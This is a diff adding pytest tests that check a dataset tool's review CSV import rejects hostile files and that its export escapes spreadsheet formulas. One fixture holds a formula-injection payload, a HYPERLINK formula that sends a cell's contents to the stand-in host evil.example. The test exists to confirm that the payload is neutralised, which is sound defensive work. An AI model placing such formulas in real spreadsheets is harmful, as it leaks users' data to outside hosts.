@@ -178,3 +178,66 @@ def test_a_full_or_read_only_disk_on_the_driver_says_what_to_do() -> None:
         line = describe(OSError(code, os.strerror(code), "/data/out/manifest.json"))
         assert line.startswith("/data/out/manifest.json: ") and "free space" in line, line
         assert "permissions" not in line, line
+
+
+# ---------------------------------------------------------------- review import: hostile CSVs
+
+
+@pytest.fixture
+def review_build(tmp_path: Path) -> Path:
+    """A build folder with two candidates pending review (only what ``review import`` reads)."""
+    import pyarrow as pa
+    import pyarrow.parquet as pq
+
+    out = tmp_path / "out"
+    (out / ".fairsets" / "review").mkdir(parents=True)
+    rows = {"key": ["k1", "k2"], "pool": ["p", "p"], "url": ["https://example.org/a.jpg"] * 2}
+    pq.write_table(pa.table(rows), out / ".fairsets" / "review" / "pending.parquet")
+    return out
+
+
+HEAD = "key,decision,license,author,note\n"
+
+
+@pytest.mark.timeout(30)
+@pytest.mark.parametrize(
+    ("make", "needles"),
+    [
+        (lambda p: os.mkfifo(p), ("not a regular file",)),  # used to block forever
+        (lambda p: p.symlink_to("/dev/zero"), ("not a regular file",)),  # used to read forever
+        (lambda p: p.write_bytes(HEAD.encode() + b"k1,reject,,,\xff\n"), ("line 2: not UTF-8", "review.csv")),
+        (lambda p: p.write_text(HEAD + "k1,reject,,," + "x" * 200_000 + "\n"), ("not a readable CSV",)),
+        (lambda p: p.write_text(HEAD + 'k1,reject,,,"never closed\n'), ("not a readable CSV",)),
+        # a stray quote swallowed k2's accept into k1's note: k2 was silently left pending
+        (
+            lambda p: p.write_text(HEAD + 'k1,reject,,,"oops\nk2,accept,CC-BY-4.0,Bob,\nk3,x,,,end"\n'),
+            ("lines 2-4 (k1)", "one record spans 3 lines"),
+        ),
+        (lambda p: p.write_text(HEAD + "k1,accept,CC-BY-4.0,Ann\x00,\n"), ("control character in author",)),
+    ],
+    ids=["fifo", "dev-zero", "binary", "huge-field", "unclosed-quote", "swallowed-rows", "nul"],
+)
+def test_hostile_review_csvs_are_one_line(
+    make, needles: tuple[str, ...], review_build: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    csv_path = tmp_path / "review.csv"
+    make(csv_path)
+    code, _, err = run_cli(["review", "import", review_build, csv_path], capsys)
+    one_line_error(code, err, *needles)
+    assert not (review_build / ".fairsets" / "review" / "decisions.parquet").exists()
+
+
+@pytest.mark.timeout(30)
+def test_export_keeps_web_text_on_one_line_and_never_a_formula(tmp_path: Path) -> None:
+    import csv
+
+    from fairsets.review import export_review, import_review
+
+    hint = '=HYPERLINK("http://evil.example/?"&A2,"CC BY")\nsecond line'
+    rows = [{"key": "k1", "pool": "p", "url": "https://e.org/a.jpg", "license_hint": hint, "state": "@Goa"}]
+    res = export_review(rows, lambda key: None, tmp_path / "rev", columns=["state"])
+    with open(res["csv"], newline="", encoding="utf-8") as fh:
+        (row,) = list(csv.DictReader(fh))
+    assert row["license_hint"].startswith("'=HYPERLINK") and "\n" not in row["license_hint"]
+    assert row["state"] == "'@Goa"
+    assert import_review(Path(res["csv"]), {"k1": rows[0]}) == []  # the untouched export imports back
